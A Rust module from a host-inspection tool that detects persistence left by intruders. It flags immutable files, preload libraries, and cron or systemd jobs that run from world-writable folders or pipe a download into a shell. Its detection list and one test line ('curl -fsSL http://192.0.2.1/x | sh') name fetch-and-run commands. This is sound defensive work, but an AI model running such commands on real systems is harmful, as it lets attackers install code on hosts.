//! What intruders leave to come back: immutable files, preloaded libraries, jobs that name a program in /tmp.
//!
//! Looks only at the places named here, and closer around processes that stand out. It accuses nobody by itself.

use crate::files::{Gaps, text};
use crate::sections::{Said, reading, section};
use netwhy_model::host::{FanOut, Process, Reading, Section, State};
use std::collections::BTreeSet;
use std::fs::OpenOptions;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

/// Files looked at in one folder.
const FILE_COUNT_MAX: usize = 128;
/// Files looked at in all.
const TOTAL_COUNT_MAX: usize = 1_024;
/// Lines shown of one job file.
const LINE_COUNT_MAX: usize = 4;
/// Processes looked around.
const PROCESS_COUNT_MAX: usize = 16;
/// Folders where anybody may write: no program of the system runs from there.
const OPEN_FOLDERS: [&str; 5] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/"];
/// Folders of jobs that start by themselves.
const JOB_FOLDERS: [&str; 9] = [
    "/etc/cron.d",
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/var/spool/cron",
    "/var/spool/cron/crontabs",
    "/etc/systemd/system",
    "/etc/init.d",
    "/etc/profile.d",
    "/root/.config/systemd/user",
];
/// Single files that matter.
const FILES: [&str; 9] = [
    "/etc/ld.so.preload",
    "/etc/crontab",
    "/etc/rc.local",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/root/.ssh/authorized_keys",
    "/root/.bashrc",
    "/root/.profile",
];
/// Downloads that are run at once.
const DOWNLOADERS: [&str; 3] = ["curl ", "wget ", "base64 -d"];
const SHELLS: [&str; 4] = ["| sh", "|sh", "| bash", "|bash"];

nix::ioctl_read!(
    /// FS_IOC_GETFLAGS (ioctl_iflags(2)).
    file_flags,
    b'f',
    1,
    libc::c_long
);

/// Whether a program's place is one no system program runs from, and why.
pub(crate) fn odd_place(executable: &str) -> Option<&'static str> {
    let path = executable.trim_end_matches(" (deleted)");
    let deleted = executable.ends_with(" (deleted)");
    if path.starts_with("/memfd:") {
        return Some("runs from memory alone");
    }
    if OPEN_FOLDERS.iter().any(|folder| path.starts_with(folder)) {
        return Some(if deleted {
            "ran from a folder anybody may write to, and deleted itself"
        } else {
            "runs from a folder anybody may write to"
        });
    }
    // An upgrade replaces programs under /usr while they run: deleted alone means nothing. Homes are full of
    // hidden folders with tools in them; the system's own folders are not.
    let is_home = path.starts_with("/home/") || path.starts_with("/root/");
    let hidden_file = path.rsplit('/').next().is_some_and(|name| name.starts_with('.'));
    (hidden_file || !is_home && path.contains("/.")).then_some("runs from a hidden place")
}

/// Builds the section: files in key places, and around the processes behind outgoing fan-outs.
pub(crate) fn read(processes: &[Process], fan_outs: &[FanOut], gaps: &mut Gaps) -> Section {
    let mut looked = Looked::default();
    let suspects: Vec<&Process> = suspects(processes, fan_outs);
    for path in FILES {
        looked.file(Path::new(path), &suspects);
    }
    for folder in JOB_FOLDERS {
        looked.folder(Path::new(folder), &suspects, gaps);
    }
    for process in &suspects {
        if let Some(reading) = program(process) {
            looked.readings.push(reading);
        }
        let executable = process.executable.as_deref().unwrap_or_default().trim_end_matches(" (deleted)");
        if let Some(folder) = Path::new(executable).parent().filter(|folder| folder.parent().is_some()) {
            looked.folder(folder, &suspects, gaps);
        }
    }
    section("persistence", "Persistence", "驻留迹象", looked.readings)
}

/// Processes that stand out: behind a fan-out, or run from an odd place.
fn suspects<'a>(processes: &'a [Process], fan_outs: &[FanOut]) -> Vec<&'a Process> {
    let behind: BTreeSet<u32> = fan_outs.iter().flat_map(|fan_out| fan_out.pids.iter().copied()).collect();
    processes
        .iter()
        .filter(|process| {
            behind.contains(&process.pid)
                || process.executable.as_deref().is_some_and(|path| odd_place(path).is_some())
        })
        .take(PROCESS_COUNT_MAX)
        .collect()
}

fn program(process: &Process) -> Option<Reading> {
    let path = process.executable.as_deref()?;
    let one = reading(
        format!("program of {} ({})", process.name, process.pid),
        path,
        format!("/proc/{}/exe", process.pid),
    );
    Some(match odd_place(path) {
        Some(why) => one.said(State::Odd, why, place_zh(why)),
        None => one,
    })
}

fn place_zh(why: &str) -> &'static str {
    match why {
        "runs from memory alone" => "仅在内存中运行，没有磁盘文件",
        "ran from a folder anybody may write to, and deleted itself" => {
            "从任何人可写的目录启动，并已删除自身"
        }
        "runs from a hidden place" => "从隐藏位置运行",
        _ => "从任何人可写的目录运行",
    }
}

/// What was looked at so far.
#[derive(Default)]
struct Looked {
    readings: Vec<Reading>,
    seen: BTreeSet<PathBuf>,
}

impl Looked {
    fn folder(&mut self, folder: &Path, suspects: &[&Process], gaps: &mut Gaps) {
        let entries = match std::fs::read_dir(folder) {
            Ok(entries) => entries,
            Err(error) => {
                if error.kind() == std::io::ErrorKind::PermissionDenied {
                    gaps.failed(folder.display().to_string(), &error);
                }
                return;
            }
        };
        for entry in entries.take(FILE_COUNT_MAX).flatten() {
            if entry.file_type().is_ok_and(|kind| kind.is_file()) {
                self.file(&entry.path(), suspects);
            }
        }
    }

    fn file(&mut self, path: &Path, suspects: &[&Process]) {
        if self.seen.len() >= TOTAL_COUNT_MAX || !self.seen.insert(path.to_owned()) {
            return;
        }
        let name = path.display().to_string();
        if let Some(flag) = protected(path) {
            self.readings.push(reading(&name, flag, format!("FS_IOC_GETFLAGS {name}")).said(
                State::Odd,
                "cannot be changed or removed, not even by root, until the flag is taken off (chattr)",
                "带不可修改标志，root 也无法更改或删除，须先用 chattr 去除",
            ));
        }
        let is_job = JOB_FOLDERS.iter().any(|folder| name.starts_with(folder))
            || name.contains("crontab")
            || name.ends_with("rc.local");
        let preload = name == "/etc/ld.so.preload";
        if !is_job && !preload {
            return;
        }
        let Ok(text) = text(path) else { return };
        let lines =
            text.lines().filter(|line| !line.trim().is_empty() && !line.trim_start().starts_with('#'));
        for line in lines.filter(|line| preload || is_odd_job(line, suspects)).take(LINE_COUNT_MAX) {
            let (en, zh) = if preload {
                ("a library loaded into every program", "会被加载进每个程序的库")
            } else {
                ("a job that starts by itself and runs something odd", "会自动启动且内容可疑的任务")
            };
            self.readings.push(reading(&name, line.trim(), &name).said(State::Odd, en, zh));
        }
    }
}

/// A line that runs something from an open folder, a download, or the program of a suspect.
pub(crate) fn is_odd_job(line: &str, suspects: &[&Process]) -> bool {
    let runs_from_open = OPEN_FOLDERS.iter().any(|folder| {
        line.split([' ', '\t', '=', '"', '\'', ';', '&', '|', '(']).any(|word| {
            // Redirecting into a folder anybody may write to is no sign; running from it is.
            word.strip_prefix(folder).is_some_and(|rest| !rest.is_empty())
                && !line.contains(&format!(">{word}"))
                && !line.contains(&format!("> {word}"))
        })
    });
    let downloads =
        DOWNLOADERS.iter().any(|word| line.contains(word)) && SHELLS.iter().any(|word| line.contains(word));
    let names_suspect = suspects.iter().any(|process| {
        let path = process.executable.as_deref().unwrap_or_default().trim_end_matches(" (deleted)");
        odd_place(path).is_some() && line.contains(path)
    });
    (runs_from_open && is_command(line)) || downloads || names_suspect
}

/// A unit's or a script's other lines name such folders for good reasons.
fn is_command(line: &str) -> bool {
    let trimmed = line.trim_start();
    let is_setting = trimmed
        .split_once('=')
        .is_some_and(|(name, _)| name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'));
    if is_setting {
        trimmed.starts_with("Exec")
    } else {
        trimmed.starts_with(['*', '@']) || trimmed.starts_with(|c: char| c.is_ascii_digit())
    }
}

/// `immutable` or `append-only` where the file system says so.
fn protected(path: &Path) -> Option<&'static str> {
    const IMMUTABLE: libc::c_long = 0x10;
    const APPEND_ONLY: libc::c_long = 0x20;
    let flags = libc::O_NONBLOCK | libc::O_NOFOLLOW | libc::O_NOCTTY;
    let file = OpenOptions::new().read(true).custom_flags(flags).open(path).ok()?;
    let mut bits: libc::c_long = 0;
    // SAFETY: the descriptor is open and the pointer is to a live value for the duration of the call.
    unsafe { file_flags(file.as_raw_fd(), &raw mut bits) }.ok()?;
    match bits {
        bits if bits & IMMUTABLE != 0 => Some("immutable"),
        bits if bits & APPEND_ONLY != 0 => Some("append-only"),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn odd_places_are_known() {
        for path in [
            "/tmp/x",
            "/dev/shm/.x/kworker (deleted)",
            "/memfd:a (deleted)",
            "/home/u/.run",
            "/usr/lib/.x/run",
        ] {
            assert!(odd_place(path).is_some(), "{path}");
        }
        for path in [
            "/usr/sbin/nginx",
            "/usr/sbin/nginx (deleted)",
            "/opt/app/bin/app",
            "/home/u/.local/bin/app",
            "/root/.pyenv/bin/python3",
        ] {
            assert!(odd_place(path).is_none(), "{path}");
        }
    }

    #[test]
    fn odd_jobs_are_known() {
        assert!(is_odd_job("* * * * * root /tmp/.x/run >/dev/null 2>&1", &[]));
        assert!(is_odd_job("*/5 * * * * curl -fsSL http://192.0.2.1/x | sh", &[]));
        assert!(is_odd_job("ExecStart=/dev/shm/kworker", &[]));
        for line in [
            "0 3 * * * root /usr/bin/backup > /tmp/backup.log",
            "PrivateTmp=/tmp/x",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "ExecStart=/usr/bin/app",
        ] {
            assert!(!is_odd_job(line, &[]), "{line}");
        }
    }

    #[test]
    fn an_immutable_file_is_told() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("x");
        std::fs::write(&path, "x").unwrap();
        assert_eq!(protected(&path), None);
        let set = |flag: &str| {
            std::process::Command::new("chattr")
                .arg(flag)
                .arg(&path)
                .stderr(std::process::Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        };
        if !set("+i") {
            println!("SKIPPED: no immutable files here");
            return;
        }
        assert_eq!(protected(&path), Some("immutable"));
        assert!(set("-i"));
    }

    proptest! {
        #[test]
        fn any_line_is_judged(line in "(?s).{0,120}") {
            let _ = is_odd_job(&line, &[]);
            let _ = odd_place(&line);
        }
    }
}
